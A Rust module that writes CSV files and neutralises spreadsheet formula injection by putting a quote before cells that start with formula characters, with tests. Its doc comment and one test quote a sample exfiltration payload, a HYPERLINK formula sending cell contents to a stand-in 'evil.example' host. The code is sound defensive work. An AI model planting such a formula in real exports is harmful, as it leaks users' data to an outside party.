//! The one CSV writer of chiso: every CSV the command line writes or the web serves goes
//! through it.
//!
//! A spreadsheet opening a CSV runs a cell that starts with `=`, `+`, `-` or `@` (and, after
//! a TAB or CR, what follows) as a formula: an explanation typed into the web app as
//! `=HYPERLINK("http://evil.example/?x="&A1,"Bấm")` would become a live link that sends
//! neighbouring cells away. As OWASP recommends, such a cell is written behind a `'`, which
//! makes it text. A plain number (`-1.5`, `+3`, `2e-3`) stays as it is, so numeric columns
//! stay numbers. Our own CSV readers ([`crate::table::read_csv`] and the survey reader) take
//! the `'` off again with [`restore`], so an exported file imports back exactly.

use std::borrow::Cow;
use std::io::Write;

/// The bytes that make a spreadsheet read a cell as a formula.
const TRIGGERS: [u8; 6] = [b'=', b'+', b'-', b'@', b'\t', b'\r'];

fn starts_with_trigger(text: &str) -> bool {
    text.as_bytes()
        .first()
        .is_some_and(|b| TRIGGERS.contains(b))
}

/// Whether `text` is a number as a spreadsheet reads one: an optional sign, digits with at
/// most one decimal point, an optional exponent. Nothing else: `-1+2` is a formula.
pub fn is_plain_number(text: &str) -> bool {
    let bytes = text.as_bytes();
    let mut i = usize::from(matches!(bytes.first(), Some(b'+' | b'-')));
    let digits_from = |i: &mut usize| {
        let start = *i;
        while *i < bytes.len() && bytes[*i].is_ascii_digit() {
            *i += 1;
        }
        *i - start
    };
    let mut digits = digits_from(&mut i);
    if i < bytes.len() && bytes[i] == b'.' {
        i += 1;
        digits += digits_from(&mut i);
    }
    if digits == 0 {
        return false;
    }
    if i < bytes.len() && matches!(bytes[i], b'e' | b'E') {
        i += 1;
        if i < bytes.len() && matches!(bytes[i], b'+' | b'-') {
            i += 1;
        }
        if digits_from(&mut i) == 0 {
            return false;
        }
    }
    i == bytes.len()
}

/// The cell as written: behind a `'` when a spreadsheet would run it as a formula, or when it
/// already starts with quotes before such a character (so that [`restore`] gives it back
/// exactly).
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    let unquoted = cell.trim_start_matches('\'');
    let guard = if unquoted.len() < cell.len() {
        starts_with_trigger(unquoted)
    } else {
        starts_with_trigger(cell) && !is_plain_number(cell)
    };
    if guard {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A cell as read: without the `'` that [`neutralise`] put in front of it.
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if starts_with_trigger(rest.trim_start_matches('\'')) => rest,
        _ => cell,
    }
}

/// [`restore`] on raw bytes, for readers that keep fields as bytes.
#[inline]
pub fn restore_bytes(cell: &[u8]) -> &[u8] {
    if cell.first() != Some(&b'\'') {
        return cell;
    }
    let rest = &cell[1..];
    let unquoted = rest
        .iter()
        .position(|&b| b != b'\'')
        .map_or(&[][..], |p| &rest[p..]);
    if unquoted.first().is_some_and(|b| TRIGGERS.contains(b)) {
        rest
    } else {
        cell
    }
}

/// How rows end: LF for files the command line writes, CRLF for downloads that spreadsheets
/// open.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum LineEnd {
    Lf,
    CrLf,
}

/// RFC 4180 CSV with every cell passed through [`neutralise`].
pub struct CsvWriter<W: Write> {
    inner: csv::Writer<W>,
}

impl<W: Write> CsvWriter<W> {
    pub fn new(writer: W, line_end: LineEnd) -> CsvWriter<W> {
        let terminator = match line_end {
            LineEnd::Lf => csv::Terminator::Any(b'\n'),
            LineEnd::CrLf => csv::Terminator::CRLF,
        };
        CsvWriter {
            inner: csv::WriterBuilder::new()
                .flexible(true)
                .terminator(terminator)
                .from_writer(writer),
        }
    }

    /// Writes one row.
    pub fn row<I, T>(&mut self, cells: I) -> Result<(), csv::Error>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        self.inner.write_record(
            cells
                .into_iter()
                .map(|cell| neutralise(cell.as_ref()).into_owned()),
        )
    }

    pub fn flush(&mut self) -> std::io::Result<()> {
        self.inner.flush()
    }

    /// The underlying writer, after flushing.
    pub fn into_inner(self) -> Result<W, std::io::Error> {
        self.inner.into_inner().map_err(|e| e.into_error())
    }
}

/// Rows as CSV text in memory, LF line ends.
pub fn to_string<R, I, T>(rows: R) -> String
where
    R: IntoIterator<Item = I>,
    I: IntoIterator<Item = T>,
    T: AsRef<str>,
{
    let mut writer = CsvWriter::new(Vec::new(), LineEnd::Lf);
    for row in rows {
        writer.row(row).expect("writing to memory");
    }
    String::from_utf8(writer.into_inner().expect("writing to memory")).expect("UTF-8 in, UTF-8 out")
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn neutralises_formulas_and_keeps_numbers() {
        for formula in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Bấm\")",
            "+1+2",
            "-2+3",
            "@SUM(A1:A3)",
            "\t=1",
            "\r=1",
            "-",
            "+",
            "=",
            "-1e",
            "1-1",
        ]
        .iter()
        .filter(|f| starts_with_trigger(f))
        {
            assert_eq!(neutralise(formula), format!("'{formula}"), "{formula:?}");
        }
        for plain in [
            "-1.5",
            "+3",
            "-0",
            "12",
            "2e-3",
            "-.5",
            "1.",
            "Hà Nội",
            "",
            "a=b",
            "'x",
        ] {
            assert_eq!(neutralise(plain), plain, "{plain:?}");
        }
        assert!(!is_plain_number("1-1"));
        assert!(!is_plain_number("--1"));
        assert!(!is_plain_number("."));
        assert!(!is_plain_number("1e+"));
    }

    #[test]
    fn quotes_before_a_trigger_are_guarded_too() {
        assert_eq!(neutralise("'=x"), "''=x");
        assert_eq!(neutralise("'-1.5"), "''-1.5");
        assert_eq!(restore("''=x"), "'=x");
        assert_eq!(restore("'=x"), "=x");
        assert_eq!(restore("'x"), "'x");
        assert_eq!(restore("'"), "'");
    }

    #[test]
    fn writes_rfc_4180_with_the_chosen_line_ends() {
        let text = to_string([["code", "note"], ["1", "=1+1, \"x\""]]);
        assert_eq!(text, "code,note\n1,\"'=1+1, \"\"x\"\"\"\n");
        let mut writer = CsvWriter::new(Vec::new(), LineEnd::CrLf);
        writer.row(["a", "-2"]).unwrap();
        assert_eq!(writer.into_inner().unwrap(), b"a,-2\r\n");
    }

    proptest! {
        #[test]
        fn restore_undoes_neutralise(cell in "['=+@\\t\\r\\-]{0,3}.{0,6}") {
            let written = neutralise(&cell);
            prop_assert_eq!(restore(&written), cell.as_str());
            prop_assert_eq!(restore_bytes(written.as_bytes()), cell.as_bytes());
            // What is written never starts a formula, unless it is a plain number.
            prop_assert!(!starts_with_trigger(&written) || is_plain_number(&written));
        }
    }
}
